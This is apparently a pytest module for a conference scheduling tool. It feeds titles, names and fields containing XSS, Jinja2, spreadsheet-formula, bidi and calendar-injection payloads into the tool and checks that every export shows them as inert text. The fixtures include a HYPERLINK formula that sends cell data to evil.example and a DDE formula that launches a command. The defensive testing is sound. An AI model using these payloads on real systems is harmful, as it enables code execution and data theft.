"""Hostile text (issue 7): titles, abstracts and names that carry HTML, <script>,
Jinja2 syntax, spreadsheet formulas, bidi overrides, line breaks aimed at calendar
files and 300-letter words are shown as text in every output (HTML site, PDF
booklet and door sheets, xlsx agenda, CSV, ics, frab XML/JSON, the converted
workbook, the diff's CSV notices): never run, never evaluated, and the layout holds.

One hostile conference is placed by hand (a valid schedule.yaml, checked first),
rendered and exported once per module; each test reads one kind of output.
"""
from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pytest
import yaml

from conftest import run_cli
from helpers import write_conf

DAY = "2014-12-08"
SCRIPT = "<script>window.__pwned = 1</script>"
CLOSE_SCRIPT = "</script><script>window.__pwned = 2</script>"
IMG = '"><img src="http://127.0.0.1:9/pwned.png" onerror="window.__pwned = 3">'
SVG = "<svg onload=window.__pwned=4>"
JINJA = "{{ 7*191 }}"                                  # 1337 if it were ever evaluated
JINJA_BLOCK = "{% for x in range(3) %}loop{% endfor %}"  # looplooploop if it were ever run
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click me")', "+1+1", "-2+3", "@SUM(1,1)",
            "=cmd|' /C calc'!A0"]
RLO = "\u202e"                                         # RIGHT-TO-LEFT OVERRIDE
BIDI_TITLE = f"Invoice {RLO}fdp.exe\u202c for review"
LONG_WORD = ("Donaudampfschifffahrtsgesellschaftskapitänsmützenabzeichen" * 6)[:300]
ICS_INJECTION = "Line one\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:injected event"

SESSIONS = [
    {"id": "s001", "title": f"Opening {SCRIPT} plenary", "format": "plenary", "track": "plenary", "duration": 75,
     "expected_attendance": 100, "speakers": ["p1"], "abstract": f"{IMG} and {CLOSE_SCRIPT}"},
    {"id": "s002", "title": f"Templates {JINJA}", "track": SVG, "speakers": ["p2"],
     "abstract": f"{JINJA_BLOCK} {{{{ config }}}} ${{7*191}} #{{7*191}}", "language": "es"},
    {"id": "s003", "title": FORMULAS[0], "track": "=TRACK()", "speakers": ["p3", "p4"], "abstract": FORMULAS[4]},
    {"id": "s004", "title": BIDI_TITLE, "track": "citizenship", "speakers": ["p5"],
     "abstract": f"{LONG_WORD} and \u2066isolated\u2069 text"},
    {"id": "s005", "title": LONG_WORD, "track": "citizenship", "speakers": ["p1"], "abstract": ICS_INJECTION},
    {"id": "@s006", "title": ICS_INJECTION, "track": "-minus", "speakers": ["p2"], "abstract": "+1+1"},
]
SPEAKERS = [
    {"id": "p1", "name": f"Eve {SCRIPT}", "organization": FORMULAS[4]},
    {"id": "p2", "name": "+1 555 0100", "organization": "<b>Bold Org</b>"},
    {"id": "p3", "name": "@mallory", "organization": f"-Org {RLO}gro"},
    {"id": "p4", "name": f"محمد {RLO}العلي", "organization": JINJA},
    {"id": "p5", "name": LONG_WORD, "organization": "=1+1"},
]
ROOMS = [{"id": "hall", "name": f"Hall {IMG}", "capacity": 200, "features": []},
         {"id": "r1", "name": f"Room {JINJA}", "capacity": 100, "features": []},
         {"id": "r2", "name": f"=ROOM() {RLO}2 moor", "capacity": 100, "features": []}]
CSS_BREAK = 'H"; } @import url("http://127.0.0.1:9/x.css"); @page { @top-left { content: "pwned'   # the PDF's header
CONFERENCE = {"name": f"Conference {SCRIPT} {JINJA}", "acronym": CSS_BREAK, "city": FORMULAS[1],
              "venue": f"Venue {IMG}", "url": "javascript:window.__pwned=5", "hosts": [f"Host {SVG}"]}
DAYS = [{"date": DAY, "slots": [{"start": "09:00", "end": "10:15", "kind": "plenary"},
                                {"start": "10:30", "end": "11:45"}, {"start": "13:30", "end": "14:45"},
                                {"start": "15:00", "end": "16:15"}]}]
PLACEMENT = [("s001", "09:00", "hall"), ("s002", "10:30", "r1"), ("s003", "10:30", "r2"),
             ("s004", "13:30", "r1"), ("s005", "13:30", "r2"), ("@s006", "15:00", "r1")]

TITLES = [s["title"] for s in SESSIONS]
EVALUATED = ("1337", "looplooploop")      # what Jinja2 would have made of the templates in the text
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def network_attempts():
    """Every connection attempted while the module's outputs are made (there must be none)."""
    import socket
    attempts = []
    real_connect, real_connect_ex = socket.socket.connect, socket.socket.connect_ex

    def connect(self, address):
        attempts.append(address)
        raise OSError("niic-sched must not use the network")

    socket.socket.connect, socket.socket.connect_ex = connect, connect
    try:
        yield attempts
    finally:
        socket.socket.connect, socket.socket.connect_ex = real_connect, real_connect_ex


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, network_attempts):
    tmp = tmp_path_factory.mktemp("hostile")
    folder = write_conf(tmp / "conf", sessions=SESSIONS, speakers=SPEAKERS, rooms=ROOMS, days=DAYS,
                        conference=CONFERENCE)
    sched = folder / "program" / "schedule.yaml"
    sched.parent.mkdir()
    sched.write_text(yaml.safe_dump({"assignments": [{"session": s, "day": DAY, "start": t, "room": r}
                                                     for s, t, r in PLACEMENT]}, allow_unicode=True))
    r = run_cli("check", folder, "--schedule", sched)
    assert r.exit_code == 0, r.stderr
    r = run_cli("render", folder, "--door-sheets", "--quiet")
    assert r.exit_code == 0, r.stderr
    out = {"folder": folder, "program": folder / "program"}
    for fmt, name in (("xlsx", "agenda.xlsx"), ("csv", "sessions.csv"), ("ics", "schedule.ics"),
                      ("frab-xml", "schedule.xml"), ("frab-json", "schedule.json")):
        r = run_cli("export", folder, "--format", fmt, "-o", tmp / name, "--quiet")
        assert r.exit_code == 0, r.stderr
        out[fmt] = tmp / name
    r = run_cli("convert", folder, tmp / "book.xlsx", "--quiet")
    assert r.exit_code == 0, r.stderr
    out["book"] = tmp / "book.xlsx"
    # the diff's CSV notices: move every session, so that every title and name is in a row
    moved = tmp / "moved.yaml"
    moved.write_text(yaml.safe_dump({"assignments": [{"session": s, "day": DAY, "start": t,
                                                      "room": {"r1": "r2", "r2": "r1"}.get(r, r)}
                                                     for s, t, r in PLACEMENT]}, allow_unicode=True))
    r = run_cli("diff", sched, moved, "--dir", folder, "--format", "csv", "-o", tmp / "notices.csv")
    assert r.exit_code == 0, r.stderr
    out["notices"] = tmp / "notices.csv"
    out["network"] = list(network_attempts)
    return out


def test_no_network_access_while_rendering_and_exporting(hostile):
    assert hostile["network"] == []


def _never_evaluated(text: str, what: str) -> None:
    for mark in EVALUATED:
        assert mark not in text, f"{what}: {mark!r} appears: template syntax from the inputs was evaluated"


# -- HTML -----------------------------------------------------------------------------------------
def _pages(program: Path) -> list[Path]:
    pages = sorted(program.glob("*.html"))
    assert {p.name for p in pages} >= {"index.html", "sessions.html", "speakers.html", "rooms.html"}
    return pages


HOSTILE_LANGUAGE = 'en" onmouseover="x'


def test_a_language_that_is_not_a_code_never_reaches_an_attribute(tmp_path, cli):
    """A session's language is written into lang= attributes: the loader takes language codes only."""
    from helpers import write_conf
    folder = write_conf(tmp_path / "c", sessions=[{"language": HOSTILE_LANGUAGE}])
    result = cli("check", folder)
    assert result.exit_code == 2
    assert "is not a language code" in result.output and "sessions/s001.yaml" in result.output
    assert not (folder / "program").exists()


def test_html_shows_hostile_text_as_text(hostile):
    from lxml import html as lxml_html
    seen = ""
    for page in _pages(hostile["program"]):
        raw = page.read_text(encoding="utf-8")
        _never_evaluated(raw, page.name)
        doc = lxml_html.fromstring(raw)
        csp = doc.xpath("//meta[@http-equiv='Content-Security-Policy']/@content")
        assert csp and "script-src 'self'" in csp[0] and "unsafe" not in csp[0], (page.name, csp)
        for script in doc.iter("script"):
            assert script.get("src", "").startswith("assets/"), (page.name, lxml_html.tostring(script))
            assert not (script.text or "").strip(), page.name
        for el in doc.iter():
            if not isinstance(el.tag, str):
                continue
            assert el.tag not in ("img", "svg", "iframe", "object", "embed", "b"), (page.name, el.tag)
            for name, value in el.attrib.items():
                assert not name.startswith("on"), (page.name, el.tag, name, value)
                if name in ("href", "src", "action", "formaction"):
                    assert not value.strip().lower().startswith(("javascript:", "data:", "vbscript:")), value
        seen += doc.text_content()
    for text in [SCRIPT, CLOSE_SCRIPT, IMG, JINJA, FORMULAS[0], LONG_WORD, SPEAKERS[0]["name"], ROOMS[1]["name"]]:
        assert text in seen, f"{text!r} is not shown as text anywhere"
    assert RLO in seen and "{{ config }}" in seen


def test_program_data_for_the_agenda_is_inert(hostile):
    """assets/program-data.js holds every title; it must stay one JavaScript string
    each: no '</script>' or '<' that could end the script, and the titles round-trip."""
    raw = (hostile["program"] / "assets" / "program-data.js").read_text(encoding="utf-8")
    body = raw[raw.index("window.NIIC_PROGRAM =") + len("window.NIIC_PROGRAM ="):].strip().rstrip(";")
    assert "<" not in body and ">" not in body and "\u2028" not in body
    data = json.loads(body)
    titles = {s["title"] for s in data["sessions"].values()}
    assert set(TITLES) <= titles


def test_bidi_overrides_stay_inside_their_own_element(hostile):
    """A right-to-left override in a title or name must not reorder the text around
    it: every text node that holds one sits directly in an element with dir=... or
    in <bdi>, both of which isolate it (HTML's default style: unicode-bidi: isolate)."""
    from lxml import html as lxml_html
    found = 0
    for page in _pages(hostile["program"]):
        doc = lxml_html.fromstring(page.read_text(encoding="utf-8"))
        for el in doc.iter():
            if not isinstance(el.tag, str) or el.tag in ("script", "style", "title"):
                continue
            if el.text and RLO in el.text:
                found += 1
                assert el.get("dir") or el.tag == "bdi", (page.name, el.tag, el.text[:60])
            if el.tail and RLO in el.tail:
                parent = el.getparent()
                found += 1
                assert parent is not None and (parent.get("dir") or parent.tag == "bdi"), (page.name, el.tail[:60])
    assert found >= 2


def test_css_wraps_long_words():
    """A 300-letter word must wrap instead of widening a column or leaving the page."""
    from niic_sched.render import PACKAGE_TEMPLATES
    for name in ("static/site.css", "pdf/program.css", "pdf/door-sheets.css"):
        css = (PACKAGE_TEMPLATES / name).read_text(encoding="utf-8")
        assert re.search(r"overflow-wrap:\s*(anywhere|break-word)", css), f"{name} has no overflow-wrap"


CHROMIUM = Path("/usr/bin/chromium")
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", "--disable-sync"]


@pytest.mark.skipif(not CHROMIUM.exists(), reason="Debian's chromium is not at /usr/bin/chromium")
def test_in_a_browser_nothing_runs_and_long_words_wrap(hostile):
    sync_api = pytest.importorskip("playwright.sync_api")
    program = hostile["program"]
    with sync_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        try:
            for width in (1280, 375):
                context = browser.new_context(viewport={"width": width, "height": 800})
                page = context.new_page()
                dialogs, errors = [], []
                page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
                page.on("pageerror", lambda e: errors.append(str(e)))
                page.on("request", lambda r: r.url.startswith("file:") or errors.append(f"request {r.url}"))
                for name in ("index.html", "sessions.html", "speakers.html", "rooms.html", "tracks.html"):
                    page.goto((program / name).as_uri())
                    page.wait_for_load_state("load")
                    # star everything, so that the agenda page draws every title from program-data.js
                    page.evaluate("document.querySelectorAll('[data-star]').forEach(b => "
                                  "b.getAttribute('aria-pressed') === 'true' || b.click())")
                    assert page.evaluate("window.__pwned") is None, name
                    assert page.evaluate("document.documentElement.scrollWidth") <= width, (name, width)
                    wide = page.evaluate("""w => [...document.querySelectorAll('main *')]
                        .filter(e => e.getClientRects().length && e.getBoundingClientRect().right > w + 1
                                && !e.closest('.grid-scroll, .grid-wrap, [data-scroll], table'))
                        .map(e => e.tagName + '.' + e.className).slice(0, 5)""", width)
                    assert wide == [], (name, width, wide)
                page.goto((program / "agenda.html").as_uri())
                page.wait_for_load_state("load")
                agenda = page.inner_text("main")
                assert SCRIPT in agenda and JINJA in agenda
                assert page.evaluate("window.__pwned") is None
                assert page.evaluate("document.documentElement.scrollWidth") <= width
                assert dialogs == [] and errors == [], (dialogs, errors)
                context.close()
        finally:
            browser.close()


# -- PDF --------------------------------------------------------------------------------------------
def _pdf_words(path: Path):
    """(page width, page height, [(xMin, xMax, word)]) per page, from pdftotext -bbox."""
    out = subprocess.run(["pdftotext", "-bbox", str(path), "-"], capture_output=True, text=True, check=True).stdout
    pages = []
    for m in re.finditer(r'<page width="([\d.]+)" height="([\d.]+)">(.*?)</page>', out, re.S):
        words = [(float(a), float(b), w) for a, b, w in
                 re.findall(r'<word xMin="([\d.-]+)" yMin="[\d.-]+" xMax="([\d.-]+)" yMax="[\d.-]+">(.*?)</word>',
                            m.group(3))]
        pages.append((float(m.group(1)), float(m.group(2)), words))
    return pages


def _pdf_text(path: Path) -> str:
    if shutil.which("pdftotext"):
        return subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True, check=True).stdout
    from pypdf import PdfReader
    return " ".join(page.extract_text() or "" for page in PdfReader(path).pages)


def test_pdf_shows_hostile_text_as_text(hostile):
    for name in ("program.pdf", "door-sheets.pdf"):
        text = _pdf_text(hostile["program"] / name)
        _never_evaluated(text, name)
        flat = re.sub(r"\s+", "", text)
        for needle in (SCRIPT, JINJA, "=HYPERLINK("):
            assert re.sub(r"\s+", "", needle) in flat, (name, needle)
    assert "@import" in re.sub(r"\s+", "", _pdf_text(hostile["program"] / "program.pdf"))  # the header, as text


@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="poppler-utils (pdftotext) is not installed")
def test_pdf_long_words_stay_on_the_page(hostile):
    for name in ("program.pdf", "door-sheets.pdf"):
        pages = _pdf_words(hostile["program"] / name)
        assert pages
        for width, _height, words in pages:
            for x0, x1, word in words:
                assert x0 >= -0.5 and x1 <= width + 0.5, f"{name}: {word[:40]!r} runs off the page ({x1:.0f} > {width:.0f})"


# -- spreadsheets: text, never formulas -----------------------------------------------------------------
def _xlsx_formula_parts(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and re.search(rb"<(\w+:)?f[ >]", z.read(n))]


@pytest.mark.parametrize("kind", ["xlsx", "book"])
def test_xlsx_cells_are_text_not_formulas(hostile, kind):
    path = hostile[kind]
    assert _xlsx_formula_parts(path) == []
    wb = openpyxl.load_workbook(path)
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    blob = "\n".join(texts)
    _never_evaluated(blob, kind)
    for formula in (FORMULAS[0], "=ROOM()"):
        assert any(formula in t for t in texts), f"{formula!r} is not in {kind} as text"


def _csv_rows(path: Path) -> list[list[str]]:
    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("kind", ["csv", "notices"])
def test_csv_cells_never_start_a_formula(hostile, kind):
    rows = _csv_rows(hostile[kind])
    assert len(rows) > 1
    cells = [c for row in rows for c in row]
    for c in cells:
        assert not c.startswith(FORMULA_START), f"{kind}: cell {c!r} would run as a formula"
    _never_evaluated("\n".join(cells), kind)
    assert any(c == "'" + FORMULAS[0] for c in cells), kind        # shown as text, with its apostrophe
    if kind == "csv":
        assert any(c == "'+1 555 0100" for c in cells) and any(c == "'@s006" for c in cells)


# -- calendars and conference apps ------------------------------------------------------------------------
def test_ics_keeps_each_title_in_its_own_event(hostile):
    import icalendar
    raw = hostile["ics"].read_bytes()
    cal = icalendar.Calendar.from_ical(raw)
    events = [c for c in cal.walk() if c.name == "VEVENT"]
    assert len(events) == len(PLACEMENT)
    lines = re.sub(rb"\r\n[ \t]", b"", raw).split(b"\r\n")       # unfolded content lines
    assert lines.count(b"BEGIN:VEVENT") == len(PLACEMENT)
    assert not any(line.startswith(b"SUMMARY:injected") for line in lines)
    summaries = {str(e.get("summary")) for e in events}
    assert set(TITLES) <= summaries
    _never_evaluated(raw.decode("utf-8"), "ics")
    assert not any(line.upper().startswith(b"URL:") and b"javascript:" in line.lower() for line in lines)


def test_frab_exports_carry_text(hostile):
    from lxml import etree
    tree = etree.parse(str(hostile["frab-xml"]))
    titles = [t.text for t in tree.iter("title")]
    assert set(TITLES) <= set(titles)
    assert not list(tree.iter("script"))
    _never_evaluated(hostile["frab-xml"].read_text(encoding="utf-8"), "frab-xml")
    data = json.loads(hostile["frab-json"].read_text(encoding="utf-8"))

    def strings(obj):
        if isinstance(obj, dict):
            for v in obj.values():
                yield from strings(v)
        elif isinstance(obj, list):
            for v in obj:
                yield from strings(v)
        elif isinstance(obj, str):
            yield obj
    texts = list(strings(data))
    assert set(TITLES) <= set(texts)
    assert not any(t.lower().startswith("javascript:") for t in texts)
    _never_evaluated("\n".join(texts), "frab-json")
